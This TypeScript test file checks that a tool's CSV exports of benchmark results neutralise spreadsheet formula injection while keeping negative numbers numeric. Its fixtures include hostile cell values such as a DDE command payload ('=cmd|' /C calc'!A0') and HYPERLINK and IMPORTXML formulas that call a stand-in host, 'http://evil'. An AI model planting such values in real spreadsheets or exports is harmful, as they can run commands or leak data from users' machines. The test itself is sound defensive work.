// CSV exports opened in a spreadsheet: a text cell from a results file must never be
// read as a formula (OWASP CSV injection), and numbers, negative ones included, stay numbers.

import { describe, expect, it } from 'vitest';
import type { RunResults } from '../model/results/reader.js';
import type { SampleRow } from '../model/results/schema.js';
import { samplesCsv, summaryCsv } from './csv.js';
import { buildReportModel } from './model.js';
import { syntheticHeader } from './synthetic.js';

const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\0'];

const run = (rows: Omit<SampleRow, 'type'>[]): RunResults => ({
  file: 'x.jsonl',
  header: syntheticHeader({ runId: '=HYPERLINK("http://evil","run")' }),
  events: [],
  end: null,
  warnings: [],
  samples: rows.map((r) => ({ type: 'sample', ...r })),
});

const hostile = {
  workload: "=cmd|' /C calc'!A0",
  variant: '+SUM(A1:A9)',
  runtime: '-2+3',
  mode: '@SUM(1)',
  phase: '\tTAB',
  metric: '\rcold_start_ns',
  request: '\uFF1D1+1',
  tags: { '=k': '@v' },
  error: '=IMPORTXML("http://evil", "//a")',
};

/** A minimal RFC 4180 reader (quoted fields with "" escapes), enough to check cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

describe('CSV exports', () => {
  const rows: Omit<SampleRow, 'type'>[] = [
    ...[1, 2, 3].map((i) => ({ ...hostile, value: 1000 * i, ok: true, iteration: i })),
    ...[1, 2, 3].map((i) => ({
      workload: 'hello',
      variant: 'wasm',
      runtime: 'wasm',
      mode: 'density',
      phase: 'total',
      metric: 'memory_delta_bytes',
      value: -4096 * i,
      ok: true,
      iteration: i,
    })),
  ];

  it('samples CSV: every text cell that starts like a formula gets a leading quote; numbers stay numbers', () => {
    const table = parseCsv(samplesCsv([run(rows)]));
    const head = table[0]!;
    const numeric = new Set(['iteration', 'value', 'ok']);
    for (const r of table.slice(1)) {
      head.forEach((col, i) => {
        const cell = r[i]!;
        if (numeric.has(col)) expect(cell).toMatch(/^(-?\d+|1|)$/);
        else expect(FORMULA_STARTS.includes(cell[0] ?? '')).toBe(false);
      });
    }
    const first = table[1]!;
    expect(first[head.indexOf('run_id')]).toBe(`'=HYPERLINK("http://evil","run")`);
    expect(first[head.indexOf('workload')]).toBe(`'=cmd|' /C calc'!A0`);
    expect(first[head.indexOf('runtime')]).toBe(`'-2+3`);
    expect(first[head.indexOf('phase')]).toBe(`'\tTAB`);
    expect(first[head.indexOf('request')]).toBe(`'\uFF1D1+1`);
    expect(first[head.indexOf('tags')]).toBe(`'=k=@v`);
    expect(first[head.indexOf('error')]).toBe(`'=IMPORTXML("http://evil", "//a")`);
    // A negative measurement is a number, written as one.
    expect(table.slice(1).map((r) => r[head.indexOf('value')])).toContain('-8192');
  });

  it('summary CSV: names neutralised, negative statistics left numeric', () => {
    const table = parseCsv(summaryCsv(buildReportModel([run(rows)], { resamples: 100 })));
    const head = table[0]!;
    const text = new Set(['workload', 'runtime', 'variant', 'mode', 'metric', 'phase', 'tags']);
    for (const r of table.slice(1)) {
      head.forEach((col, i) => {
        if (text.has(col)) expect(FORMULA_STARTS.includes(r[i]![0] ?? '')).toBe(false);
        else expect(Number.isFinite(Number(r[i]))).toBe(true);
      });
    }
    const delta = table.find((r) => r[head.indexOf('metric')] === 'memory_delta_bytes')!;
    expect(delta[head.indexOf('median')]).toBe('-8192');
    expect(Number(delta[head.indexOf('mean')])).toBe(-8192);
    expect(table.find((r) => r[head.indexOf('workload')] === `'=cmd|' /C calc'!A0`)).toBeDefined();
  });
});
